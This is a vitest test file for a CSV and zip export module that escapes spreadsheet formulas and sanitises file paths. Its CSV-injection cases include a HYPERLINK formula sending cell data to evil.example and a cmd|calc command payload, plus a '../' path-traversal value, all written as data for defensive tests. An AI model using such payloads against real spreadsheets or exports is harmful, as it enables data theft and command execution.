import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import nl from '../../locales/nl.json' with { type: 'json' };
import { createTranslator } from '../../src/lib/i18n.ts';
import type { SubjectExportV2 } from '../../src/lib/package/subject-export-v2.ts';
import { cellText, portalTables, type PackageTable } from '../../src/lib/package/tables.ts';
import { buildPackageZip, csvPath, tableCsv } from '../../src/lib/package/zip.ts';

const bom = '\uFEFF';
/** The CSV's records without the byte-order mark and the final line end. */
const records = (csv: string) => csv.slice(bom.length).replace(/\r\n$/, '').split('\r\n');

describe('tableCsv()', () => {
  test('starts with a UTF-8 byte-order mark, so a spreadsheet reads Greek and Cyrillic as written', () => {
    const csv = tableCsv({ columns: ['όνομα', 'град'], rows: [['Μαρία Παπαδοπούλου', 'София']] });
    expect(csv.startsWith(bom)).toBe(true);
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('όνομα,град\r\nΜαρία Παπαδοπούλου,София\r\n');
  });

  test('quotes a cell with a comma, a quote or a line break, doubling its quotes (RFC 4180)', () => {
    const csv = tableCsv({
      columns: ['subject', 'body'],
      rows: [
        ['Faktura 12, korekta', 'Napisał: "proszę o zwrot"'],
        ['two lines', 'first\nsecond\r\nthird'],
      ],
    });
    expect(csv.slice(bom.length)).toBe('subject,body\r\n"Faktura 12, korekta","Napisał: ""proszę o zwrot"""\r\ntwo lines,"first\nsecond\r\nthird"\r\n');
  });

  test('writes an absent value as an empty cell', () => {
    expect(records(tableCsv({ columns: ['a', 'b', 'c'], rows: [['x', null, 'z']] }))).toEqual(['a,b,c', 'x,,z']);
  });

  test('an empty table is its header row alone', () => {
    expect(tableCsv({ columns: ['reference', 'type'], rows: [] })).toBe(`${bom}reference,type\r\n`);
  });

  // OWASP, CSV Injection: a cell that starts with =, +, -, @, tab or carriage return is run as a formula by
  // spreadsheet programs; a leading apostrophe makes it text.
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('a cell %j that a spreadsheet would run as a formula is written as text', (value, written) => {
    expect(records(tableCsv({ columns: ['note'], rows: [[value]] }))).toEqual(['note', written]);
  });

  test('a column name from a system is neutralised like a cell', () => {
    expect(records(tableCsv({ columns: ['=cmd', 'ok'], rows: [] }))).toEqual([`"'=cmd",ok`]);
  });

  test('plain numbers keep their sign and stay numbers, and a formula character inside a cell is left alone', () => {
    expect(records(tableCsv({ columns: ['amount', 'phone', 'text'], rows: [['-12.50', '+48600100200', 'a=b, c+d']] }))).toEqual([
      'amount,phone,text',
      '-12.50,+48600100200,"a=b, c+d"',
    ]);
  });
});

describe('cellText()', () => {
  test('keeps text, writes numbers and booleans, joins lists of text and writes anything else as JSON', () => {
    expect(cellText('Οδός Εγνατίας 12')).toBe('Οδός Εγνατίας 12');
    expect(cellText(12.5)).toBe('12.5');
    expect(cellText(false)).toBe('false');
    expect(cellText(12n)).toBe('12');
    expect(cellText(['analytics', 'marketing'])).toBe('analytics, marketing');
    expect(cellText({ street: 'Długa', no: 12 })).toBe('{"street":"Długa","no":12}');
    expect(cellText(null)).toBeNull();
    expect(cellText(undefined)).toBeNull();
  });
});

describe('portalTables()', () => {
  const t = createTranslator('nl', nl);
  const data = JSON.parse(readFileSync(join(import.meta.dirname, '../fixtures/package-data.json'), 'utf8')) as SubjectExportV2;

  test('keeps moments in ISO 8601 for a CSV, with choices and statuses in the person’s language', () => {
    const [requests, consent, marketing] = portalTables(data, t);
    expect(requests?.rows[0]?.[3]).toBe(data.requests[0]?.receivedAt);
    expect(consent?.rows[0]).toEqual([
      data.consentRecords[0]?.recordedAt,
      t('consent.actions.custom'),
      'Noodzakelijk, Statistieken',
      'Voorkeuren, Marketing',
      'http://localhost:4322',
      '2',
    ]);
    expect(marketing?.rows[0]).toEqual([
      t('marketing.channels.email'),
      'kasia@example.pl',
      data.marketing[0]?.createdAt,
      t('dpo.consent.marketingStatus.pending'),
    ]);
  });

  test('writes moments as the document asks', () => {
    const [requests] = portalTables(data, t, (iso) => `moment ${iso}`);
    expect(requests?.rows[0]?.[3]).toBe(`moment ${data.requests[0]?.receivedAt}`);
    expect(requests?.rows[0]?.[4]).toBeNull();
  });
});

describe('csvPath()', () => {
  test('names the file after the system and the table, with nothing a zip tool could read as a folder', () => {
    expect(csvPath({ owner: 'portal', name: 'consent-records' })).toBe('csv/portal-consent-records.csv');
    expect(csvPath({ owner: '../billing', name: 'Τιμολόγια/2026' })).toBe('csv/billing-2026.csv');
    expect(csvPath({ owner: 'crm', name: 'Τιμολόγια' })).toBe('csv/crm-table.csv');
  });
});

describe('buildPackageZip()', () => {
  const table = (owner: string, name: string, cell: string): PackageTable => ({ owner, name, label: name, columns: ['x'], rows: [[cell]] });

  test('writes every table to a CSV of its own, also when two names read the same as file names', () => {
    const zip = unzipSync(
      buildPackageZip({
        dataJson: '{}',
        html: '<!doctype html>',
        csvTables: [table('crm', 'Τιμολόγια', 'first'), table('crm', 'Πληρωμές', 'second'), table('crm', 'notes', 'third'), table('crm', 'notes ', 'fourth')],
        files: [],
        madeAt: Date.parse('2026-11-20T10:00:00Z'),
      }),
    );
    const csvs = Object.keys(zip).filter((path) => path.startsWith('csv/'));
    expect(csvs).toHaveLength(4);
    expect(csvs.map((path) => records(strFromU8(zip[path] as Uint8Array))[1]).sort()).toEqual(['first', 'fourth', 'second', 'third']);
  });
});
